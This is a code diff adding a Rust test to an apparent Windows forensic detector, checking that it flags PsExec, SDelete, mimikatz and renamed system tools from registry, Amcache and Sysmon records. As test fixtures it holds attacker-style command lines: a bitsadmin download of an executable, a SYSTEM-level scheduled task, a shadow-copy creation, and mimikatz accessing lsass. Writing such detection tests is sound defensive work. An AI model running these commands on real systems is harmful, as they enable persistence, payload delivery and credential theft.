@@ -1215,3 +1215,129 @@ fn network_logons_alone_name_no_tool() {
         assert!(embedded_confidences(obs).is_empty(), "{package}");
     }
 }
+
+/// Offline witnesses alone: a task or a service seen only as a registry definition, a
+/// Sysinternals EULA value written by a renamed copy, an execution artifact of a
+/// renamed service binary, mimikatz reading lsass.
+#[test]
+fn offline_and_secondary_witnesses() {
+    let _review = Review;
+    assert_found(
+        "TaskCache entry of an attacker's task",
+        vec![plain(Observed::Task {
+            name: "\\bouWFQYO".into(),
+            command: "cmd.exe /C whoami > C:\\Windows\\Temp\\bouWFQYO.tmp 2>&1".into(),
+        })],
+        "schtasks:destination",
+        Possible,
+    );
+    assert_quiet(
+        "TaskCache entry of Windows' own task",
+        vec![plain(Observed::Task {
+            name: "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag".into(),
+            command: "%windir%\\system32\\defrag.exe -c -h -o -$".into(),
+        })],
+        "schtasks",
+        None,
+    );
+    assert_found(
+        "Services key of PSEXESVC, full image path",
+        vec![plain(Observed::Service {
+            name: "PSEXESVC".into(),
+            image_path: "C:\\Windows\\PSEXESVC.exe".into(),
+        })],
+        "psexec:destination",
+        Likely,
+    );
+    for (key, tool) in [
+        (
+            "HKU\\S-1-5-21-1-2-3-1001\\Software\\Sysinternals\\PsExec\\EulaAccepted",
+            "psexec:source",
+        ),
+        (
+            "HKU\\S-1-5-21-1-2-3-1001\\Software\\Sysinternals\\SDelete\\EulaAccepted",
+            "sdelete:source",
+        ),
+    ] {
+        assert_found(
+            key,
+            vec![record(
+                SYSMON,
+                13,
+                &[
+                    ("EventType", "SetValue"),
+                    ("Image", "C:\\Users\\Public\\renamed.exe"),
+                    ("TargetObject", key),
+                    ("Details", "DWORD (0x00000001)"),
+                ],
+            )],
+            tool,
+            Likely,
+        );
+    }
+    assert_quiet(
+        "another Sysinternals tool's EULA",
+        vec![record(
+            SYSMON,
+            13,
+            &[
+                ("EventType", "SetValue"),
+                ("Image", "C:\\Tools\\procexp64.exe"),
+                (
+                    "TargetObject",
+                    "HKU\\S-1-5-21-1-2-3-1001\\Software\\Sysinternals\\Process Explorer\\EulaAccepted",
+                ),
+                ("Details", "DWORD (0x00000001)"),
+            ],
+        )],
+        "psexec",
+        None,
+    );
+    assert_found(
+        "Amcache of a renamed PSEXESVC",
+        vec![amcache("C:\\Windows\\svcupd.exe", Some("psexesvc.exe"))],
+        "psexec:destination",
+        Likely,
+    );
+    assert_found(
+        "mimikatz reading lsass, Sysmon 10",
+        vec![record(
+            SYSMON,
+            10,
+            &[
+                ("SourceImage", "C:\\Users\\alice\\mimikatz.exe"),
+                ("TargetImage", "C:\\Windows\\system32\\lsass.exe"),
+                ("GrantedAccess", "0x1010"),
+            ],
+        )],
+        "mimikatz:source",
+        Likely,
+    );
+    for (image, original, command_line, key) in [
+        (
+            "C:\\Users\\Public\\st.exe",
+            "schtasks.exe",
+            "st.exe /create /tn x /tr c:\\x.exe /sc onstart /ru system",
+            "schtasks:source",
+        ),
+        (
+            "C:\\Users\\Public\\v.exe",
+            "VSSADMIN.EXE",
+            "v.exe create shadow /for=C:",
+            "vssadmin:dc",
+        ),
+        (
+            "C:\\Users\\Public\\b.exe",
+            "bitsadmin.exe",
+            "b.exe /transfer j http://10.0.0.5/a.exe C:\\Users\\Public\\a.exe",
+            "bits:source",
+        ),
+    ] {
+        assert_found(
+            command_line,
+            vec![sysmon_start(image, original, command_line, CMD)],
+            key,
+            Likely,
+        );
+    }
+}
